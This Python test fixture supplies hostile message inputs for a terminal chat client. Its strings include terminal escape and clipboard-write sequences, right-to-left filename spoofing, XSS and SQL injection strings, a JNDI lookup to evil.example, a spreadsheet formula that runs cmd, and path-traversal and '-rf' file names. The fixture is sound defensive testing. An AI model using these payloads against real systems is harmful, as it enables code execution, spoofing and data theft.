"""What a hostile customer writes: everything that must reach neither terminal, markup nor file system unharmed."""

from wabiz_tui.graph.reading import Json

LONG_LINE = 1024 * 1024
NAMES = (
    "Support ✔ (wabiz)",
    "\x1b[31mAdmin\x1b[0m",
    "Anna\u202enimdA",
    "[bold red]System[/]",
    "\u200b\u200b\u200b",
    "<b>Boss</b>",
    "Robin (agent)\u2066\u2069",
    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 8,
)
TEXTS = (
    "\x1b[2J\x1b[H\x1b]0;owned\x07You are hacked",
    "\x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07 copied into your clipboard",
    "\x9b31m eight-bit control \x9d0;title\x9c",
    "\x1bP+q544e\x1b\\\x1b[6n answer me",
    "pay to \u202e0000 5555 4444 3333\u202c now",
    "\u2067right to left\u2069 and \u2066left\u2069",
    "zero\u200bwidth\u200djoined\ufeff text\u2060",
    "[bold]markup[/bold] [link=file:///etc/passwd]here[/link] [@click=app.quit]quit[/]",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "'; DROP TABLE messages; -- \" OR 1=1",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n %00",
    "null \x00 byte, bell \x07, backspace \x08\x08\x08, carriage\rreturn, vertical\x0btab, form\x0cfeed",
    "Z\u0351\u0363\u0364a\u0345\u0346\u0347l\u033f\u034dg\u0316\u0317o" + "\u0300" * 200,
    "👩‍👩‍👧‍👦" * 60 + "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "half an emoji \ud83d and the rest",
    '=HYPERLINK("https://evil.example","spreadsheet") +1+cmd|\' /C calc\'!A0',
    "line\u2028separator\u2029and\u0085next",
    "tag\U000e0041\U000e0042 characters and \ufff9annotation\ufffa\ufffb, private \ue000",
    "﷽" * 40 + "\u115f\u3164\uffa0 blank letters",
)
FILENAMES = (
    "../../../../etc/passwd",
    "invoice\u202efdp.exe",
    "a" * 300 + ".pdf",
    "C:\\con\\aux.pdf",
    "\x1b[31mred.pdf",
    "-rf *.pdf",
    ".bashrc",
)


def hostile_content(turn: int) -> Json:
    """One by one through everything there is: texts, a line of a mebibyte, file names, a card and a place of nonsense."""
    others: tuple[Json, ...] = (
        {"type": "text", "text": {"body": "A" * LONG_LINE}},
        *({"type": "document", "document": {"filename": name, "caption": name}} for name in FILENAMES),
        {
            "type": "contacts",
            "contacts": [{"name": {"formatted_name": TEXTS[0], "first_name": "\x1b[5m"}, "phones": [{"phone": TEXTS[2]}]}],
        },
        {"type": "location", "location": {"latitude": 1e308, "longitude": -999, "name": TEXTS[5], "address": TEXTS[9]}},
        {"type": "reaction", "reaction": {"message_id": "wamid.\x1b[0m", "emoji": "\x1b[31m👍"}},
        {"type": "\x1b[31mtype", "text": "not an object"},
    )
    whole = (*({"type": "text", "text": {"body": text}} for text in TEXTS), *others)
    return whole[turn % len(whole)]


HOSTILE_TURNS = len(TEXTS) + len(FILENAMES) + 5
